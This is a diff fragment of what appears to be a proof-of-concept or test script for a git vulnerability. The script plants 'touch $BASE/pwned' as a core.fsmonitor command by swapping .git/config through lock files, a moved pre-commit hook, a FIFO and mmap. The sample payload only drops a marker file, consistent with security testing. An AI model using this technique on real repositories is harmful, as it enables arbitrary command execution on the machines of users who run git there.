@@ -72,6 +72,9 @@ chmod 666 \$c
 git -C $I config core.fsmonitor 'touch $BASE/pwned'
 printf '[core]\n\tfsmonitor = touch $BASE/pwned\n' >$I/.git/config.lock && mv $I/.git/config.lock \$c
 rm -f $I/.git/config.lock
+mv $I/.git/hooks/pre-commit \$c
+mkfifo $I/.git/config.lock && mv $I/.git/config.lock \$c
+rm -f $I/.git/config.lock
 python3 - \$c <<'EOP'
 import mmap, os, sys
 fd = os.open(sys.argv[1], os.O_RDWR)
